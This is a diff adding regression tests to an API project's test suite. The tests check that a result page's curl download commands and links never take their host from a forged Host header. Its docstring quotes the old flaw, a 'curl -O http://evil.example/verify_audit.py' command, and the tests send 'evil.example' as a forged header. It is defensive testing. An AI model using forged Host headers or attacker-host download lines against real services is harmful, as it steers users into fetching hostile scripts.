@@ -443,3 +443,37 @@ def test_the_app_factory_reads_the_environment(
         assert ctx.settings.home == (tmp_path / "home").resolve()
     assert cli_main(["api", "--store", sqlite_url, "--workers", "0"]) == 2
     assert "worker processes" in capsys.readouterr().err
+
+
+def test_the_result_page_never_takes_its_commands_host_from_the_host_header(world: dict[str, Any]) -> None:
+    """Before, the page's link and ``curl`` commands were built from the request's ``Host``: a
+    request saying ``Host: evil.example`` got ``curl -O http://evil.example/verify_audit.py``.
+    Now they name the configured public URL, else the request's address only when it is the one
+    the server listens on, else ``$TYPESTRICT_API_URL`` with a line saying to set it."""
+    server, settled = world["server"], world["settled"]
+    with server.client(world["key_a"]) as c:
+        own = c.get(f"/v1/models/{settled}/page").text  # the address the server listens on
+        assert f"curl -O {server.url}/verify_audit.py" in own
+        forged = c.get(f"/v1/models/{settled}/page", headers={"Host": "evil.example"})
+        assert forged.status_code == 200 and "evil.example" not in forged.text
+        assert "curl -O $TYPESTRICT_API_URL/verify_audit.py" in forged.text
+        assert f"-o audit.json $TYPESTRICT_API_URL/v1/models/{settled}/audit" in forged.text
+        assert f'href="/v1/models/{settled}/audit"' in forged.text  # the link: relative to the page
+        assert "Set <code>TYPESTRICT_API_URL</code> to this server's address first" in forged.text
+
+
+def test_the_result_pages_address_is_the_configured_public_url() -> None:
+    from starlette.requests import Request
+
+    from typestrict_pipeline.api.routes.models import page_base_url
+
+    def request(host: str, server: tuple[str, int]) -> Request:
+        return Request({"type": "http", "method": "GET", "scheme": "http", "path": "/v1/models/m/page",
+                        "query_string": b"", "server": server, "headers": [(b"host", host.encode())]})
+
+    assert page_base_url(request("evil.example", ("10.0.0.5", 8000)), "https://api.example.com") == \
+        "https://api.example.com"
+    assert page_base_url(request("evil.example", ("10.0.0.5", 8000)), None) is None
+    assert page_base_url(request("10.0.0.5:8000", ("10.0.0.5", 8000)), None) == "http://10.0.0.5:8000"
+    assert page_base_url(request("[::1]:8000", ("::1", 8000)), None) == "http://[::1]:8000"
+    assert page_base_url(request("10.0.0.5:8001", ("10.0.0.5", 8000)), None) is None
